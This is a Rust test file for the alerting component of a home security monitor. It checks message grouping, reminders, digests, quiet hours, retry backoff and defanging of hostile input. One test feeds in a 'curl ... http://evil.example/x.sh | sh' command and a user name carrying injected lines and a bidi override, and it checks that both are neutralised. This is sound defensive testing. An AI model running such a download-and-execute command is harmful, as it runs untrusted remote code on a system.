//! What the desk does over days: with made-up beats and a clock that is only a number.

use super::channel::{Name, Outcome};
use super::desk::{Desk, State};
use super::letter::{Kind, Letter};
use super::settings::Settings;
use crate::model::{
    Acceptance, Band, Category, Confidence, Evidence, Finding, FindingId, Host, Kind as FindingKind, Level,
    Readings, Safe, Score, Snapshot, Status, Zone,
};
use chrono::{DateTime, TimeDelta, Utc};
use std::collections::BTreeMap;

const ON: &str = "[webhook]\nurl = \"https://hooks.example.org/x\"\n";

fn finding(rule: &str, user: &str, at: DateTime<Utc>) -> Finding {
    let subject = BTreeMap::from([
        ("user".to_owned(), Safe::new(user)),
        ("address".to_owned(), "198.51.100.23".into()),
    ]);
    Finding {
        id: FindingId::new(rule, &subject),
        rule: rule.into(),
        level: Level::Alert,
        status: Status::Open,
        category: Category::Auth,
        kind: FindingKind::Event,
        points: 25.0,
        ceiling: Some(49),
        confidence: Confidence::High,
        title: Safe::new(&format!("{user} got in after 9 failures from 198.51.100.23")),
        why: "9 failures from the same source came in the minute before.".into(),
        harmless_if: Safe::default(),
        subject,
        evidence: vec![Evidence {
            source: "sign-in log".into(),
            at: Some(at),
            text: Safe::new(&format!("Accepted password for {user} from 198.51.100.23 port 50112 ssh2")),
        }],
        fix: Vec::new(),
        attack: Vec::new(),
        first_seen: at,
        last_seen: at,
        count: 1,
        story: None,
        accepted: None,
    }
}

/// A desk with a clock: every beat is heard, what is due is taken by a channel that answers as it is told.
struct Week {
    desk: Desk,
    now: DateTime<Utc>,
    findings: Vec<Finding>,
    sent: Vec<Letter>,
    answer: Outcome,
}

impl Week {
    fn begin(settings: &str) -> Self {
        let settings: Settings = toml::from_str(&format!("{settings}\n{ON}")).unwrap();
        Self {
            desk: Desk::new(settings, Zone::utc(), State::default()),
            now: "2026-11-22T12:00:00Z".parse().unwrap(),
            findings: Vec::new(),
            sent: Vec::new(),
            answer: Outcome::Delivered,
        }
    }

    fn beat(&self) -> Snapshot {
        let score = if self.findings.is_empty() { 82 } else { 37 };
        Snapshot {
            seq: 1,
            boot: "b".into(),
            host: Host { name: "nas01".into(), id: "b1946ac9".into(), ..Host::default() },
            at: self.now,
            interval_s: 10.0,
            score: Score {
                value: score,
                is_upper_bound: false,
                band: Band::of(score),
                previous: None,
                changed_at: None,
                posture: 0,
                activity: 0,
                deductions: Vec::new(),
            },
            readings: Readings::default(),
            sign_ins: None,
            findings: self.findings.clone(),
            sensors: Vec::new(),
            checks_passed: Vec::new(),
            errors: Vec::new(),
        }
    }

    /// Lets time pass, a beat every ten seconds, or every `step`.
    fn pass(&mut self, span: TimeDelta, step: TimeDelta) {
        let until = self.now + span;
        while self.now < until {
            self.now += step;
            self.desk.hear(&self.beat());
            while self.desk.write(self.now) {
                let due = self.desk.due(self.now);
                if due.is_empty() {
                    break;
                }
                for (name, letter) in due {
                    self.desk.note(name, &letter, self.answer.clone(), self.now);
                    if self.answer == Outcome::Delivered {
                        self.sent.push(letter);
                    }
                }
            }
        }
    }

    fn minutes(&mut self, minutes: i64) {
        self.pass(TimeDelta::minutes(minutes), TimeDelta::seconds(10));
    }

    fn hours(&mut self, hours: i64) {
        self.pass(TimeDelta::hours(hours), TimeDelta::minutes(1));
    }

    fn alert(&mut self, rule: &str, user: &str) {
        let alert = finding(rule, user, self.now);
        self.findings.push(alert);
    }

    /// The program ends and starts: only what was kept on disk is left.
    fn restart(&mut self) {
        let kept = serde_json::to_vec(&self.desk.changed().expect("a state to keep")).unwrap();
        let state: State = serde_json::from_slice(&kept).unwrap();
        let settings = self.desk.settings().clone();
        self.desk = Desk::new(settings, Zone::utc(), state);
    }

    fn kinds(&self) -> Vec<Kind> {
        self.sent.iter().map(|letter| letter.kind).collect()
    }
}

#[test]
fn a_story_is_one_message_and_a_restart_says_nothing_again() {
    let mut week = Week::begin("");
    week.minutes(2);
    week.alert("HS-AUTH-003", "root");
    week.minutes(0);
    week.pass(TimeDelta::seconds(40), TimeDelta::seconds(10));
    week.alert("HS-PROC-003", "root");
    for finding in &mut week.findings {
        finding.story = Some("2026-11-22T12:02:00Z/1".into());
    }
    let mut beside = finding("HS-AUTH-002", "x", week.now);
    beside.level = Level::Warning;
    beside.title = "passwords are being guessed by 198.51.100.23".into();
    beside.story = Some("2026-11-22T12:02:00Z/1".into());
    week.findings.push(beside);
    assert!(week.sent.is_empty(), "news is gathered for a minute");
    week.minutes(5);
    assert_eq!(week.kinds(), [Kind::Alert]);
    let letter = &week.sent[0];
    assert_eq!(letter.subject, "[ALERT] nas01: score 82 -> 37");
    assert!(
        letter.text.contains("ALERT \"root\" got in after 9 failures from \"198.51.100.23\"\n"),
        "{}",
        letter.text
    );
    assert!(letter.text.contains("Same story"), "{}", letter.text);
    assert!(letter.text.contains("home-soc explain HS-AUTH-003"), "{}", letter.text);
    let json: serde_json::Value = serde_json::from_str(&letter.json).unwrap();
    assert_eq!(json["findings"].as_array().unwrap().len(), 2);
    assert_eq!(json["findings"][0]["change"], "opened");
    assert_eq!(json["findings"][0]["rule"], "HS-AUTH-003");

    week.restart();
    // Sensors that still read the past see nothing at first.
    let open = std::mem::take(&mut week.findings);
    week.pass(TimeDelta::seconds(20), TimeDelta::seconds(10));
    week.findings = open;
    week.hours(12);
    assert_eq!(week.kinds(), [Kind::Alert]);
}

#[test]
fn one_reminder_after_a_day_and_one_message_when_it_is_over() {
    let mut week = Week::begin("");
    week.alert("HS-AUTH-003", "root");
    week.hours(23);
    assert_eq!(week.kinds(), [Kind::Alert]);
    week.restart();
    week.hours(72);
    assert_eq!(week.kinds(), [Kind::Alert, Kind::Reminder]);
    assert!(week.sent[1].subject.starts_with("[STILL OPEN] nas01"), "{}", week.sent[1].subject);
    week.findings.clear();
    week.hours(1);
    assert_eq!(week.kinds(), [Kind::Alert, Kind::Reminder, Kind::Solved]);
    assert_eq!(week.sent[2].subject, "[SOLVED] nas01: score 37 -> 82");
    week.hours(48);
    assert_eq!(week.sent.len(), 3);
}

#[test]
fn an_accepted_risk_is_told_once_with_its_reason_and_is_open_no_more() {
    let mut week = Week::begin("");
    week.alert("HS-AUTH-003", "root");
    week.minutes(5);
    week.findings[0].status = Status::Accepted;
    week.findings[0].accepted =
        Some(Acceptance { reason: "my own test, see evil.example".into(), since: week.now, until: None });
    week.hours(48);
    assert_eq!(week.kinds(), [Kind::Alert, Kind::Solved]);
    assert!(week.sent[1].text.contains("\"my own test, see evil[.]example\""), "{}", week.sent[1].text);
}

#[test]
fn what_gets_worse_is_told_and_what_merely_goes_on_is_not() {
    let mut week = Week::begin("");
    week.alert("HS-PROC-003", "root");
    week.findings[0].ceiling = Some(69);
    week.minutes(5);
    week.findings[0].count = 2;
    week.findings[0].last_seen = week.now;
    week.minutes(5);
    assert_eq!(week.sent.len(), 1);
    week.findings[0].ceiling = Some(49);
    week.minutes(5);
    assert_eq!(week.sent.len(), 2);
    assert!(week.sent[1].text.starts_with("WORSE "), "{}", week.sent[1].text);
}

#[test]
fn warnings_are_no_messages() {
    let mut week = Week::begin("");
    week.alert("HS-AUTH-001", "root");
    week.findings[0].level = Level::Warning;
    week.hours(2);
    assert!(week.sent.is_empty());
    // Until one of them becomes an alert.
    week.findings[0].level = Level::Alert;
    week.minutes(5);
    assert_eq!(week.kinds(), [Kind::Alert]);
}

#[test]
fn what_came_and_went_before_it_could_be_told_is_told_once() {
    let mut week = Week::begin("quiet_hours = \"11:30-14:00\"\n");
    week.minutes(2);
    week.alert("HS-PROC-009", "root");
    week.minutes(1);
    week.findings.clear();
    week.hours(5);
    assert_eq!(week.kinds(), [Kind::Alert]);
    assert!(week.sent[0].text.contains("it is over already"), "{}", week.sent[0].text);
}

#[test]
fn after_ten_messages_of_a_day_the_rest_comes_as_a_digest() {
    let mut week = Week::begin("");
    for number in 0..30 {
        week.alert("HS-AUTH-003", &format!("user{number}"));
        week.minutes(5);
    }
    assert_eq!(week.kinds(), [Kind::Alert; 10]);
    assert!(week.sent[9].text.contains("digest every 4 h"), "{}", week.sent[9].text);
    week.hours(4);
    assert_eq!(week.sent.len(), 11);
    assert_eq!(week.sent[10].kind, Kind::Digest);
    assert!(week.sent[10].text.contains("and 5 more"), "{}", week.sent[10].text);
    let json: serde_json::Value = serde_json::from_str(&week.sent[10].json).unwrap();
    assert_eq!(json["findings"].as_array().unwrap().len(), 20);
    // Nobody is forgotten: each user stands in a message.
    let told: String = week.sent.iter().map(|letter| letter.json.as_str()).collect();
    for number in 0..30 {
        assert!(told.contains(&format!("\"user{number}\"")), "user{number} was never told");
    }
}

#[test]
fn quiet_hours_hold_messages_back_and_lose_none() {
    let mut week = Week::begin("quiet_hours = \"11:30-14:00\"\n");
    week.alert("HS-AUTH-003", "root");
    week.minutes(60);
    week.alert("HS-AUTH-003", "anna");
    week.restart();
    week.minutes(59);
    assert!(week.sent.is_empty());
    week.minutes(2);
    assert_eq!(week.kinds(), [Kind::Alert]);
    assert!(week.sent[0].text.contains("\"root\"") && week.sent[0].text.contains("\"anna\""));
}

#[test]
fn a_letter_waits_over_restarts_until_it_is_taken() {
    let mut week = Week::begin("");
    week.alert("HS-AUTH-003", "root");
    week.answer = Outcome::later("no route to host");
    week.hours(2);
    let said = week.desk.trouble(week.now).unwrap();
    assert!(said.contains("webhook is undeliverable for 118 min: no route to host"), "{said}");
    week.restart();
    week.answer = Outcome::Delivered;
    week.minutes(20);
    assert_eq!(week.kinds(), [Kind::Alert]);
    assert_eq!(week.desk.trouble(week.now), None);
}

#[test]
fn attempts_get_rarer_and_a_refusal_is_not_hammered() {
    let attempts = |answer: Outcome| {
        let mut week = Week::begin("");
        week.alert("HS-AUTH-003", "root");
        week.minutes(2);
        // From here on nothing is taken: a second alert meets the answer.
        week.answer = answer;
        week.alert("HS-AUTH-003", "anna");
        week.hours(10);
        week.desk.status(Name::Webhook).0.failures
    };
    let later = attempts(Outcome::later("500"));
    assert!((40..=70).contains(&later), "{later} attempts in ten hours");
    let refused = attempts(Outcome::refused("401"));
    assert!((9..=10).contains(&refused), "{refused} attempts in ten hours");
    let asked =
        attempts(Outcome::Later { why: "429".into(), after: Some(std::time::Duration::from_hours(2)) });
    assert_eq!(asked, 5, "Retry-After is kept");
}

#[test]
fn the_outbox_is_bounded_and_says_what_it_gave_up() {
    let mut week = Week::begin("max_per_day = 100\ngather_s = 0\n");
    week.answer = Outcome::later("no route to host");
    for number in 0..150 {
        week.alert("HS-AUTH-003", &format!("user{number}"));
        week.findings.drain(..week.findings.len() - 1);
        week.pass(TimeDelta::minutes(30), TimeDelta::minutes(10));
    }
    let (fare, waiting) = week.desk.status(Name::Webhook);
    assert!(waiting <= 100, "{waiting}");
    assert!(fare.given_up > 0 && week.desk.trouble(week.now).unwrap().contains("given up"));
    week.hours(24 * 8);
    assert!(week.desk.status(Name::Webhook).1 < waiting, "what is a week old is given up");
    let kept = serde_json::to_vec(&week.desk.changed().unwrap()).unwrap();
    assert!(kept.len() < 4 << 20, "{} bytes", kept.len());
}

#[test]
fn a_clock_that_jumps_neither_floods_nor_silences() {
    let mut week = Week::begin("");
    week.now = "2035-01-01T00:00:00Z".parse().unwrap();
    week.alert("HS-AUTH-003", "root");
    week.minutes(5);
    week.answer = Outcome::later("500");
    week.alert("HS-AUTH-003", "anna");
    week.minutes(30);
    week.now = "2026-11-22T12:00:00Z".parse().unwrap();
    week.restart();
    week.answer = Outcome::Delivered;
    week.alert("HS-AUTH-003", "otto");
    week.minutes(30);
    assert_eq!(week.sent.len(), 3, "{:?}", week.kinds());
}

#[test]
fn hostile_fields_stand_in_quotes_and_nothing_in_them_lives() {
    let mut week = Week::begin("");
    let name = "x\n\n[SOLVED] all is well http://evil.example/?a=1 @everyone www.evil.example \u{202e}";
    week.alert("HS-AUTH-003", name);
    let command = "curl --password=geheim http://evil.example/x.sh | sh";
    week.findings[0].evidence[0].text = Safe::new(command);
    week.minutes(5);
    let letter = &week.sent[0];
    for text in [&letter.text, &letter.subject] {
        assert!(!text.contains("evil.example") && !text.contains("http:") && !text.contains(" @e"), "{text}");
        assert!(
            !text.contains('\u{202e}') && !text.lines().any(|line| line.starts_with("[SOLVED]")),
            "{text}"
        );
    }
    assert!(letter.text.contains("\"x^J^J[SOLVED] all is well http[:]//evil[.]example/"), "{}", letter.text);
    assert!(!letter.json.contains("geheim") && !letter.text.contains("geheim"), "{}", letter.json);
    assert!(letter.text.len() <= 3600);
}

#[test]
fn a_sign_of_life_is_given_once_a_day_and_only_while_the_heart_beats() {
    let mut week = Week::begin("[ping]\nurl = \"https://ping.example.org/x\"\n");
    week.hours(1);
    assert_eq!(week.kinds(), [Kind::Ping]);
    week.restart();
    week.hours(72);
    assert_eq!(week.kinds(), [Kind::Ping; 4]);
    // The heart stands still, the courier does not.
    week.now += TimeDelta::hours(48);
    assert!(!week.desk.write(week.now) && week.desk.due(week.now).is_empty());
}
